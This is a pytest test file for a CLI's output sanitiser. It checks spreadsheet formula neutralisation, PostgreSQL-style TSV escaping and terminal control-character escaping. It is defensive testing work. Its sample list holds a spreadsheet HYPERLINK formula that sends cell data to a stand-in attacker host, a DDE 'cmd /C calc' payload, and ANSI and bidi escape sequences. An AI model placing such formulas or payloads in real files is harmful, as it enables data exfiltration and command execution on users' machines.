"""The cell rules, one destination at a time: terminals, spreadsheets, TSV (gmctl.output_cells)."""

from __future__ import annotations

import pytest

from gmctl.output_cells import for_terminal, neutralise_formula, read_tsv_field, restore_formula, tsv_field

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Fix")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+two quotes",
    "tab\tin\tthe middle",
    "line\nbreak and \r\n CRLF",
    "back\\slash \\t literal",
    "\x1b[31mred\x1b[0m",
    "\x00nul \x7fdel \x9bcsi",
    '"quoted", with comma',
    "Ọláníyì Adébáyọ̀",
    "emoji 🇳🇬 and رياض",
    "",
    "\\.",
]


@pytest.mark.parametrize("text", ['=1+1', '+1', '-x', '@A1', '\tx', '\rx', "'=x", "''@x"])
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "1+1", " =spaced", "a=b", "2026-11-25", "'quote only", ""])
def test_ordinary_text_is_left_alone(text):
    assert neutralise_formula(text) == text


def test_phone_numbers_keep_their_plus_and_every_digit_as_text():
    assert neutralise_formula("+2348031234567") == "'+2348031234567"
    assert restore_formula("'+2348031234567") == "+2348031234567"


@pytest.mark.parametrize("amount", ["-5000.00", "-1", "-0.5"])
def test_a_negative_amount_written_as_text_stays_a_number(amount):
    assert neutralise_formula(amount) == amount


@pytest.mark.parametrize("text", ["-5000.00+1", "-1e3", "--1", "- 5"])
def test_anything_else_after_a_minus_is_neutralised(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", HOSTILE)
def test_the_formula_rule_is_reversible(text):
    assert restore_formula(neutralise_formula(text)) == text


def test_tsv_escapes_as_postgresql_copy_text_does():
    assert tsv_field("a\tb\nc\rd\\e") == "a\\tb\\nc\\rd\\\\e"
    assert tsv_field("\x1b[0m") == "\\x1b[0m"
    assert tsv_field('say "hi"') == 'say "hi"'  # no quoting


@pytest.mark.parametrize("text", HOSTILE)
def test_a_tsv_field_holds_no_tab_newline_or_control_and_reads_back(text):
    field = tsv_field(text)
    assert not any(ord(c) < 0x20 or c == "\x7f" for c in field)
    assert read_tsv_field(field) == text


def test_copy_reads_gmctls_tsv_escapes_back(connection):
    """PostgreSQL itself decodes the escapes to the original text (COPY FROM STDIN, text format)."""
    raw = connection.connection.dbapi_connection
    with raw.cursor() as cursor:
        cursor.execute("CREATE TEMP TABLE copied (n int, t text)")
        with cursor.copy("COPY copied FROM STDIN") as copy:
            for n, text in enumerate(HOSTILE):
                if "\x00" in text:
                    continue  # PostgreSQL text cannot hold NUL at all
                copy.write(f"{n}\t{tsv_field(text)}\n")
        cursor.execute("SELECT n, t FROM copied ORDER BY n")
        back = dict(cursor.fetchall())
    assert back == {n: t for n, t in enumerate(HOSTILE) if "\x00" not in t}


def test_the_terminal_sees_escapes_never_control_characters():
    assert for_terminal("\x1b[31mred\x1b[0m") == "\\x1b[31mred\\x1b[0m"
    assert for_terminal("a\tb\nc\rd") == "a\\tb\\nc\\rd"
    assert for_terminal("\x9b2J \x07bell \x7f") == "\\x9b2J \\x07bell \\x7f"
    assert for_terminal("abc\u202eevil\u2066") == "abc\\u202eevil\\u2066"
    assert for_terminal("line1\nline2\x1b]0;t\x07", keep_newlines=True) == "line1\nline2\\x1b]0;t\\x07"
    assert for_terminal("Ọláníyì 🇳🇬 رياض") == "Ọláníyì 🇳🇬 رياض"


def test_a_path_is_shortened_in_the_middle_so_its_file_name_shows():
    from gmctl.output_table import cell_width, shorten

    path = "uploads/2026/10/zg645ww2jv43v8zkybbm43uabc.pdf"
    short = shorten(path, 30)
    assert cell_width(short) <= 30 and short.startswith("uploads/") and short.endswith("abc.pdf") and "…" in short
    assert shorten("Engine check light on and more", 12) == "Engine chec…"  # prose is cut at the end
